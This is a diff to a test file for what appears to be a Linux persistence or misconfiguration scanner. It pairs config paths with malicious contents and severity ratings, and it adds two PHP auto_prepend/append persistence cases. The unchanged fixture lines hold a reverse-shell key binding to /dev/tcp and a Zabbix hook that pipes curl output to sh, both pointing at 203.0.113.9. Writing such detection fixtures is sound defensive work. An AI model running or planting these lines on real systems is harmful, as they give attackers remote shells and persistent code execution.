@@ -39,6 +39,8 @@ describe('services left open', () => {
 		['/root/.inputrc', 'Control-o: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\\C-m"\n', 'critical'],
 		['/etc/X0.hosts', '+\n', 'medium'],
 		['/etc/php/8.2/fpm/conf.d/99.ini', 'auto_prepend_file = /dev/shm/.p\n', 'high'],
+		['/etc/php/8.2/apache2/conf.d/30-x.ini', 'auto_append_file=/var/lib/php/sessions/sess_0\n', 'high'],
+		['/etc/php/8.2/fpm/pool.d/www.conf', 'php_admin_value[auto_prepend_file] = /var/www/img/a.png\n', 'high'],
 		['/etc/zabbix/zabbix_agentd.d/x.conf', 'UserParameter=x,sh -c "curl -s 203.0.113.9/k|sh"\n', 'high'],
 		['/etc/audit/plugins.d/x.conf', 'path = /var/tmp/.a\n', 'high'],
 		['/etc/dbus-1/system.d/zz.conf', '<busconfig><policy context="default"><allow own="*"/></policy></busconfig>\n', 'high'],
